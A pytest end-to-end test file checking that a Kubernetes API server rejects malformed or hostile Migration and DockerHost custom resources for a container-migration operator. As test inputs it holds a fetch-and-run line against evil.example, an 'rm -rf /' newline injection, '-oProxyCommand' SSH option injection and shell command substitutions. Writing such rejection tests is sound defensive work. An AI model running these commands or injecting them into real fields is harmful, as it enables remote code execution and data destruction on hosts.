"""What the API server itself refuses: the CRDs' schemas and CEL rules, with no operator running.

Every bad input below is sent with `kubectl apply` to the lab's kube-apiserver and must be
rejected at admission, with a message naming the field (or the CEL rule's message), so that a
typo or a hostile value never reaches the operator, its SSH sessions or a host's shell.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

import pytest
import yaml

from tests.e2e.lab import Lab, report, unique

pytestmark = pytest.mark.e2e

API_VERSION = "ferry.dev/v1alpha1"
HOST_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHlA8Ff9MxF5mMyZ+qgqcS2rXW7nD3bKQFTXfkzSx0Zx lab"
DROP = object()
"""A spec change that removes the key instead of setting it."""


def _changed(spec: dict[str, Any], changes: dict[str, Any]) -> dict[str, Any]:
    result = {**spec, **changes}
    return {key: value for key, value in result.items() if value is not DROP}


def migration_spec(**changes: Any) -> dict[str, Any]:
    """A valid Migration spec (container web-1 from node1 to node2), with `changes` applied."""
    return _changed(
        {"workload": {"container": "web-1"}, "sourceHost": "node1", "targetHost": "node2"}, changes
    )


def docker_host_spec(**changes: Any) -> dict[str, Any]:
    """A valid DockerHost spec, with `changes` applied."""
    valid = {
        "address": "dh-admission.invalid",
        "hostKey": HOST_KEY,
        "sshKeySecretRef": {"name": "ferry-ssh", "namespace": "ferry-system"},
    }
    return _changed(valid, changes)


@dataclass(frozen=True)
class Resource:
    kind: str
    spec: Any

    @property
    def resource(self) -> str:
        return self.kind.lower()

    def manifest(self, name: str) -> str:
        metadata = {"name": name, "namespace": "default"} if self.kind == "Migration" else {"name": name}
        body = {"apiVersion": API_VERSION, "kind": self.kind, "metadata": metadata, "spec": self.spec}
        return yaml.safe_dump(body)


@dataclass(frozen=True)
class Bad(Resource):
    fragments: tuple[str, ...] = ()
    """Every one of these must appear in kubectl's stderr: the field path and what is wrong with it."""


def bad_migration(case_id: str, spec: dict[str, Any], *fragments: str, gap: str | None = None) -> Any:
    return _param(case_id, Bad("Migration", spec, fragments), gap)


def bad_docker_host(case_id: str, spec: dict[str, Any], *fragments: str, gap: str | None = None) -> Any:
    return _param(case_id, Bad("DockerHost", spec, fragments), gap)


def _param(case_id: str, bad: Bad, gap: str | None) -> Any:
    marks = [pytest.mark.xfail(strict=True, reason=f"CRD gap: {gap}")] if gap else []
    return pytest.param(bad, id=case_id, marks=marks)


PATTERN = "should match"
TYPE_INTEGER = "must be of type integer"
TYPE_BOOLEAN = "must be of type boolean"
TYPE_OBJECT = "must be of type object"
TYPE_STRING = "must be of type string"
ONE_WORKLOAD = "set exactly one of workload.container, process, composeProject and selector"
ONE_PROCESS_KEY = "set exactly one of process.pid and process.name"

BAD_INPUTS = [
    # -- Migration: required fields
    bad_migration("migration-without-workload", migration_spec(workload=DROP), "spec.workload", "Required"),
    bad_migration(
        "migration-without-targetHost", migration_spec(targetHost=DROP), "spec.targetHost", "Required"
    ),
    bad_migration("migration-with-empty-targetHost", migration_spec(targetHost=""), "spec.targetHost"),
    # -- Migration: wrong types
    bad_migration(
        "timeoutSeconds-as-string",
        migration_spec(timeoutSeconds="300"),
        "spec.timeoutSeconds",
        TYPE_INTEGER,
    ),
    bad_migration(
        "timeoutSeconds-as-fraction", migration_spec(timeoutSeconds=30.5), "spec.timeoutSeconds", TYPE_INTEGER
    ),
    bad_migration("redirect-as-string", migration_spec(redirect="true"), "spec.redirect", TYPE_BOOLEAN),
    bad_migration(
        "keepCheckpoint-as-yes", migration_spec(keepCheckpoint="yes"), "spec.keepCheckpoint", TYPE_BOOLEAN
    ),
    bad_migration("workload-as-list", migration_spec(workload=["web-1"]), "spec.workload", TYPE_OBJECT),
    bad_migration("targetHost-as-list", migration_spec(targetHost=["node2"]), "spec.targetHost", TYPE_STRING),
    bad_migration(
        "pid-as-string",
        migration_spec(workload={"process": {"pid": "42"}}),
        "spec.workload.process.pid",
        TYPE_INTEGER,
    ),
    bad_migration(
        "unknown-field-timeout",
        migration_spec(timeout=60),
        'unknown field "spec.timeout"',
    ),
    # -- Migration: exactly one workload, exactly one way to find a process
    bad_migration(
        "workload-with-container-and-process",
        migration_spec(workload={"container": "web-1", "process": {"pid": 42}}),
        "spec.workload",
        ONE_WORKLOAD,
    ),
    bad_migration("workload-empty", migration_spec(workload={}), "spec.workload", ONE_WORKLOAD),
    bad_migration(
        "process-with-pid-and-name",
        migration_spec(workload={"process": {"pid": 42, "name": "redis-server"}}),
        "spec.workload.process",
        ONE_PROCESS_KEY,
    ),
    bad_migration(
        "process-empty",
        migration_spec(workload={"process": {}}),
        "spec.workload.process",
        ONE_PROCESS_KEY,
    ),
    bad_migration(
        "process-without-sourceHost",
        migration_spec(workload={"process": {"pid": 42}}, sourceHost=DROP),
        "a process workload needs sourceHost",
    ),
    bad_migration(
        "workload-with-container-and-composeProject",
        migration_spec(workload={"container": "web-1", "composeProject": "shop"}),
        "spec.workload",
        ONE_WORKLOAD,
    ),
    bad_migration(
        "composeProject-without-sourceHost",
        migration_spec(workload={"composeProject": "shop"}, sourceHost=DROP),
        "a composeProject or selector workload needs sourceHost",
    ),
    bad_migration(
        "composeProject-with-a-space",
        migration_spec(workload={"composeProject": "my shop"}),
        "spec.workload.composeProject",
        PATTERN,
    ),
    bad_migration(
        "selector-empty",
        migration_spec(workload={"selector": {}}),
        "spec.workload.selector",
        "an empty selector would select every container on the host",
    ),
    bad_migration(
        "postCopy-of-a-composeProject",
        migration_spec(workload={"composeProject": "shop"}, postCopy=True),
        "postCopy applies to a single container workload with strategy Live",
    ),
    bad_migration(
        "sourceHost-equals-targetHost",
        migration_spec(sourceHost="node2"),
        "sourceHost and targetHost must differ",
    ),
    # -- Migration: combinations that cannot work
    bad_migration(
        "cold-through-sharedDirectory",
        migration_spec(strategy="Cold", transfer="SharedDirectory"),
        "transfer SharedDirectory passes a checkpoint, which strategy Cold does not take",
    ),
    bad_migration(
        "redirect-of-a-process",
        migration_spec(workload={"process": {"pid": 42}}, redirect=True),
        "redirect applies to a container workload",
    ),
    # -- Migration: enums (case-sensitive)
    bad_migration("strategy-Warm", migration_spec(strategy="Warm"), "spec.strategy", "Unsupported value"),
    bad_migration(
        "strategy-lowercase-live", migration_spec(strategy="live"), "spec.strategy", "Unsupported value"
    ),
    bad_migration("transfer-Rsync", migration_spec(transfer="Rsync"), "spec.transfer", "Unsupported value"),
    # -- Migration: timeoutSeconds within 10..86400
    bad_migration(
        "timeoutSeconds-negative", migration_spec(timeoutSeconds=-1), "spec.timeoutSeconds", "equal to 10"
    ),
    bad_migration("timeoutSeconds-0", migration_spec(timeoutSeconds=0), "spec.timeoutSeconds", "equal to 10"),
    bad_migration("timeoutSeconds-9", migration_spec(timeoutSeconds=9), "spec.timeoutSeconds", "equal to 10"),
    bad_migration(
        "timeoutSeconds-86401", migration_spec(timeoutSeconds=86401), "spec.timeoutSeconds", "equal to 86400"
    ),
    # -- Migration: container names are Docker names, never shell words
    *(
        bad_migration(
            f"container-{label}",
            migration_spec(workload={"container": container}),
            "spec.workload.container",
            PATTERN,
        )
        for label, container in [
            ("semicolon", "a;b"),
            ("command-substitution", "$(x)"),
            ("backticks", "`reboot`"),
            ("space", "web app"),
            ("slash", "web/app"),
            ("newline-inside", "web\nrm -rf /"),
            ("trailing-newline", "web\n"),
            ("leading-dash", "-web"),
        ]
    ),
    bad_migration(
        "container-one-letter",
        migration_spec(workload={"container": "a"}),
        "spec.workload.container",
        "at least 2",
    ),
    bad_migration(
        "container-129-characters",
        migration_spec(workload={"container": "c" * 129}),
        "spec.workload.container",
        "Too long",
    ),
    # -- Migration: host names are lowercase DNS names
    bad_migration("targetHost-uppercase", migration_spec(targetHost="Node2"), "spec.targetHost", PATTERN),
    bad_migration(
        "targetHost-semicolon", migration_spec(targetHost="node2;reboot"), "spec.targetHost", PATTERN
    ),
    bad_migration(
        "targetHost-ssh-option", migration_spec(targetHost="-oProxyCommand=x"), "spec.targetHost", PATTERN
    ),
    bad_migration("sourceHost-uppercase", migration_spec(sourceHost="NODE1"), "spec.sourceHost", PATTERN),
    bad_migration(
        "sourceHost-command-substitution", migration_spec(sourceHost="$(id)"), "spec.sourceHost", PATTERN
    ),
    bad_migration(
        "targetHost-254-characters", migration_spec(targetHost="n" * 254), "spec.targetHost", "Too long"
    ),
    # -- Migration: processes
    *(
        bad_migration(
            f"pid-{label}",
            migration_spec(workload={"process": {"pid": pid}}),
            "spec.workload.process.pid",
            reason,
        )
        for label, pid, reason in [
            ("0", 0, "equal to 2"),
            ("1-init", 1, "equal to 2"),
            ("negative", -5, "equal to 2"),
            ("above-pid-max", 4194305, "equal to 4194304"),
        ]
    ),
    bad_migration(
        "process-name-semicolon",
        migration_spec(workload={"process": {"name": "sh;reboot"}}),
        "spec.workload.process.name",
        PATTERN,
    ),
    bad_migration(
        "process-name-longer-than-comm",
        migration_spec(workload={"process": {"name": "p" * 16}}),
        "spec.workload.process.name",
        PATTERN,
    ),
    # -- DockerHost: required fields
    bad_docker_host(
        "dockerhost-without-sshKeySecretRef",
        docker_host_spec(sshKeySecretRef=DROP),
        "spec.sshKeySecretRef",
        "Required",
    ),
    bad_docker_host(
        "dockerhost-sshKeySecretRef-without-namespace",
        docker_host_spec(sshKeySecretRef={"name": "ferry-ssh"}),
        "spec.sshKeySecretRef.namespace",
        "Required",
    ),
    bad_docker_host("dockerhost-without-hostKey", docker_host_spec(hostKey=DROP), "spec.hostKey", "Required"),
    bad_docker_host("dockerhost-without-address", docker_host_spec(address=DROP), "spec.address", "Required"),
    # -- DockerHost: port
    bad_docker_host("port-0", docker_host_spec(port=0), "spec.port", "equal to 1"),
    bad_docker_host("port-70000", docker_host_spec(port=70000), "spec.port", "equal to 65535"),
    bad_docker_host("port-as-string", docker_host_spec(port="22"), "spec.port", TYPE_INTEGER),
    # -- DockerHost: hostKey is "TYPE BASE64 [comment]"
    bad_docker_host("hostKey-not-a-key", docker_host_spec(hostKey="not a key"), "spec.hostKey", PATTERN),
    bad_docker_host(
        "hostKey-shell-without-key-type",
        docker_host_spec(hostKey="$(curl evil.example | sh) AAAAC3Nza"),
        "spec.hostKey",
        PATTERN,
    ),
    bad_docker_host(
        "hostKey-key-type-glued-to-semicolon",
        docker_host_spec(hostKey="ssh-ed25519;reboot AAAAC3Nza"),
        "spec.hostKey",
        PATTERN,
    ),
    bad_docker_host(
        "hostKey-second-line",
        docker_host_spec(hostKey=f"{HOST_KEY}\nssh-rsa AAAAB3NzaC1yc2E"),
        "spec.hostKey",
        PATTERN,
    ),
    # -- DockerHost: address and user end up in SSH connections
    bad_docker_host("address-semicolon", docker_host_spec(address="node1;reboot"), "spec.address", PATTERN),
    bad_docker_host(
        "address-ssh-option", docker_host_spec(address="-oProxyCommand=sh"), "spec.address", PATTERN
    ),
    bad_docker_host("user-uppercase", docker_host_spec(user="Root"), "spec.user", PATTERN),
    bad_docker_host("user-ssh-option", docker_host_spec(user="-oProxyCommand=sh"), "spec.user", PATTERN),
    # -- DockerHost: paths are absolute and plain
    bad_docker_host(
        "dockerSocket-relative",
        docker_host_spec(dockerSocket="var/run/docker.sock"),
        "spec.dockerSocket",
        PATTERN,
    ),
    bad_docker_host(
        "dockerSocket-semicolon",
        docker_host_spec(dockerSocket="/var/run/docker.sock;reboot"),
        "spec.dockerSocket",
        PATTERN,
    ),
    bad_docker_host(
        "sharedDirectory-relative",
        docker_host_spec(sharedDirectory="srv/ferry"),
        "spec.sharedDirectory",
        PATTERN,
    ),
    # -- DockerHost: limits and namespaces
    bad_docker_host(
        "maxConcurrentMigrations-0",
        docker_host_spec(maxConcurrentMigrations=0),
        "spec.maxConcurrentMigrations",
        "equal to 1",
    ),
    bad_docker_host(
        "allowedNamespaces-uppercase",
        docker_host_spec(allowedNamespaces=["Default"]),
        "spec.allowedNamespaces[0]",
        PATTERN,
    ),
    bad_docker_host(
        "allowedNamespaces-as-string",
        docker_host_spec(allowedNamespaces="*"),
        "spec.allowedNamespaces",
        "must be of type array",
    ),
    # -- DockerHost: workloads and what a twin may have
    bad_docker_host(
        "workloads-rule-selecting-nothing",
        docker_host_spec(workloads=[{"namespaces": ["team-a"]}]),
        "spec.workloads[0]",
        "a rule selects containers, processes, or both",
    ),
    bad_docker_host(
        "workloads-in-without-values",
        docker_host_spec(
            workloads=[{"containers": {"matchExpressions": [{"key": "app", "operator": "In"}]}}]
        ),
        "spec.workloads[0].containers.matchExpressions[0]",
        "values must be given for In and NotIn, and only for them",
    ),
    bad_docker_host(
        "workloads-unknown-operator",
        docker_host_spec(workloads=[{"containers": {"matchExpressions": [{"key": "a", "operator": "Is"}]}}]),
        "spec.workloads[0].containers.matchExpressions[0].operator",
        "Unsupported value",
    ),
    bad_docker_host(
        "workloads-processes-without-users",
        docker_host_spec(workloads=[{"processes": {"executables": ["/opt/app"]}}]),
        "spec.workloads[0].processes.users",
        "Required",
    ),
    bad_docker_host(
        "workloads-executable-relative",
        docker_host_spec(workloads=[{"processes": {"users": ["app"], "executables": ["bin/app"]}}]),
        "spec.workloads[0].processes.executables[0]",
        PATTERN,
    ),
    bad_docker_host(
        "workloads-user-with-semicolon",
        docker_host_spec(workloads=[{"processes": {"users": ["app;reboot"], "executables": ["/"]}}]),
        "spec.workloads[0].processes.users[0]",
        PATTERN,
    ),
    bad_docker_host(
        "allowHostPaths-climbing",
        docker_host_spec(allowHostPaths=["/srv/.."]),
        "spec.allowHostPaths[0]",
        "must not climb out with '..'",
    ),
    bad_docker_host(
        "allowPrivileged-as-string",
        docker_host_spec(allowPrivileged="yes"),
        "spec.allowPrivileged",
        TYPE_BOOLEAN,
    ),
]


@dataclass
class Tally:
    tried: list[str] = field(default_factory=list)
    rejected: list[str] = field(default_factory=list)
    accepted: list[str] = field(default_factory=list)


@pytest.fixture(scope="module")
def tally(request: pytest.FixtureRequest) -> Iterator[Tally]:
    """Counts the bad inputs tried; prints the summary once the table has run."""
    counts = Tally()
    yield counts
    report(
        request.config,
        f"admission: {len(counts.tried)} tried, {len(counts.rejected)} rejected as expected"
        + (f"; ACCEPTED (CRD gaps): {', '.join(counts.accepted)}" if counts.accepted else ""),
    )


@pytest.mark.parametrize("bad", BAD_INPUTS)
def test_the_api_server_rejects_bad_input_at_admission(
    bad: Bad, lab: Lab, tally: Tally, request: pytest.FixtureRequest
) -> None:
    case = request.node.callspec.id
    name = unique("admission")
    tally.tried.append(case)

    result = lab.kubectl("apply", "-f", "-", input=bad.manifest(name), check=False)

    if result.returncode == 0:
        tally.accepted.append(case)
        lab.kubectl("delete", bad.resource, name, "-n", "default", "--wait=false", check=False)
    assert result.returncode != 0, f"{bad.kind} with spec {bad.spec!r} was accepted: {result.stdout}"
    missing = [fragment for fragment in bad.fragments if fragment not in result.stderr]
    assert not missing, f"rejected, but the message lacks {missing}: {result.stderr}"
    tally.rejected.append(case)


def test_a_valid_minimal_migration_and_docker_host_are_accepted_with_defaults(lab: Lab) -> None:
    """The table above cannot pass by rejecting everything."""
    migration = Resource("Migration", {"workload": {"container": "web-1"}, "targetHost": "node2"})
    host = Resource("DockerHost", docker_host_spec())
    migration_name, host_name = unique("admission-ok"), unique("admission-ok")
    try:
        lab.kubectl("apply", "-f", "-", input=migration.manifest(migration_name))
        lab.kubectl("apply", "-f", "-", input=host.manifest(host_name))

        stored_migration = _spec(lab, "migration", migration_name)
        stored_host = _spec(lab, "dockerhost", host_name)
    finally:
        lab.kubectl("delete", "migration", migration_name, "-n", "default", "--ignore-not-found", check=False)
        lab.kubectl("delete", "dockerhost", host_name, "--ignore-not-found", check=False)

    assert stored_migration == {
        "workload": {"container": "web-1"},
        "targetHost": "node2",
        "strategy": "Live",
        "transfer": "Stream",
        "redirect": False,
        "keepCheckpoint": False,
        "dryRun": False,
        "timeoutSeconds": 300,
    }
    assert stored_host == {
        **docker_host_spec(),
        "sshKeySecretRef": {"name": "ferry-ssh", "namespace": "ferry-system", "key": "id_ed25519"},
        "port": 22,
        "user": "root",
        "dockerSocket": "/var/run/docker.sock",
        "maxConcurrentMigrations": 2,
        "allowedNamespaces": ["*"],
    }


@pytest.mark.parametrize(
    "spec",
    [
        migration_spec(strategy="Cold"),
        migration_spec(transfer="SharedDirectory", redirect=True),
        migration_spec(workload={"process": {"pid": 4194303}}, redirect=False),  # a PID no lab process has
    ],
    ids=["cold-through-a-stream", "live-through-sharedDirectory-redirected", "process-not-redirected"],
)
def test_the_neighbours_of_the_refused_combinations_are_accepted(lab: Lab, spec: dict[str, Any]) -> None:
    """The combination rules refuse what cannot work, and nothing next to it."""
    name = unique("admission-ok")
    try:
        result = lab.kubectl(
            "apply", "-f", "-", input=Resource("Migration", spec).manifest(name), check=False
        )
    finally:
        lab.kubectl("delete", "migration", name, "-n", "default", "--ignore-not-found", check=False)

    assert result.returncode == 0, result.stderr


def test_a_migration_spec_cannot_be_edited_after_creation(lab: Lab) -> None:
    name = unique("admission-immutable")
    lab.kubectl("apply", "-f", "-", input=Resource("Migration", migration_spec()).manifest(name))
    try:
        patch = json.dumps({"spec": {"targetHost": "node3"}})
        result = lab.kubectl(
            "patch", "migration", name, "-n", "default", "--type", "merge", "-p", patch, check=False
        )

        assert result.returncode != 0, f"the spec was edited: {result.stdout}"
        assert "spec is immutable; create a new Migration instead" in result.stderr
        assert _spec(lab, "migration", name)["targetHost"] == "node2"
    finally:
        lab.kubectl("delete", "migration", name, "-n", "default", "--ignore-not-found", check=False)


def _spec(lab: Lab, resource: str, name: str) -> dict[str, Any]:
    stored: dict[str, Any] = json.loads(
        lab.kubectl("get", resource, name, "-n", "default", "-o", "json").stdout
    )["spec"]
    return stored
